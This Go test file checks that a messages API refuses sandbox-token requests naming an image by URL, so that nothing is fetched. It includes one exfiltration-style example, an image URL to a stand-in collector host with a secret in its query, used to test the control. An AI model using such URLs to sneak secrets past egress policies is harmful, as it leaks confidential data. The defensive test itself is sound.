package web

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/gofiber/fiber/v2"

	"threadbox/app/messages"
	"threadbox/app/messages/wire"
	"threadbox/app/turns"
	"threadbox/domain/user"
)

// textModel answers every step with one text block.
type textModel struct{}

func (textModel) Step(context.Context, messages.StepRequest) (*messages.StepResult, error) {
	return &messages.StepResult{Content: []wire.ContentBlock{{Type: "text", Text: "seen"}}, StopReason: "end_turn"}, nil
}

func (m textModel) StreamStep(ctx context.Context, req messages.StepRequest, _ func(messages.StepEvent) error) (*messages.StepResult, error) {
	return m.Step(ctx, req)
}

// recordingURLs records the URLs it is asked to fetch and answers a PNG.
type recordingURLs struct {
	mu   sync.Mutex
	urls []string
}

func (r *recordingURLs) Fetch(_ context.Context, url string, _ []string) (string, []byte, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.urls = append(r.urls, url)
	return "image/png", []byte("\x89PNG\r\n\x1a\n"), nil
}

func (r *recordingURLs) fetched() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.urls...)
}

// noContainers stands for the containers of turns in a test whose
// requests need none (no code execution, no container named).
type noContainers struct{ turns.Containers }

// TestSandboxTokensFetchNoURLs sends a Messages request naming an image by
// URL as a sandbox token, as code in a sandbox could to reach an address
// its org's egress policy does not allow (a secret in the URL's query, say):
// it is refused with 403 and nothing is fetched; the user's own API token
// has the image fetched as before.
func TestSandboxTokensFetchNoURLs(t *testing.T) {
	urls := &recordingURLs{}
	engine := messages.New(textModel{}, messages.Tools{}, messages.Config{URLs: urls})
	srv := &Server{log: slog.New(slog.DiscardHandler), svc: Services{Turns: turns.New(turns.Deps{Engine: engine, Containers: noContainers{}})}}
	api := user.Principal{UserID: "usr_1", OrgID: "org_1", Role: user.Member, TokenID: "tok_1", Kind: user.APIToken}
	sandbox := api
	sandbox.TokenID, sandbox.Kind, sandbox.ContainerID = "tok_2", user.SandboxToken, "thr_1"

	send := func(p user.Principal, url string) (int, string, []byte) {
		t.Helper()
		app := fiber.New(fiber.Config{ErrorHandler: srv.errorHandler})
		app.Post("/api/gpt/v1/messages", func(c *fiber.Ctx) error { c.Locals(principalKey, p); return c.Next() }, srv.createMessage)
		body := `{"model":"m","max_tokens":5,"messages":[{"role":"user","content":[` +
			`{"type":"image","source":{"type":"url","url":"` + url + `"}},{"type":"text","text":"what is it?"}]}]}`
		req := httptest.NewRequest("POST", "/api/gpt/v1/messages", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := app.Test(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		var e struct {
			Error struct{ Type string } `json:"error"`
		}
		_ = json.Unmarshal(b, &e)
		return resp.StatusCode, e.Error.Type, b
	}
	if status, typ, body := send(sandbox, "https://collector.example/p.png?secret=s3cr3t"); status != fiber.StatusForbidden || typ != "permission_error" {
		t.Fatalf("a sandbox token's image URL: %d %s %s, want 403 permission_error", status, typ, body)
	}
	if got := urls.fetched(); len(got) != 0 {
		t.Fatalf("fetched %q for a sandbox token's request", got)
	}
	if status, _, body := send(api, "https://images.example/cat.png"); status != fiber.StatusOK {
		t.Fatalf("the user's API token's image URL: %d %s, want 200", status, body)
	}
	if got := urls.fetched(); len(got) != 1 || got[0] != "https://images.example/cat.png" {
		t.Fatalf("fetched %q for the API token's request, want the image's URL once", got)
	}
}
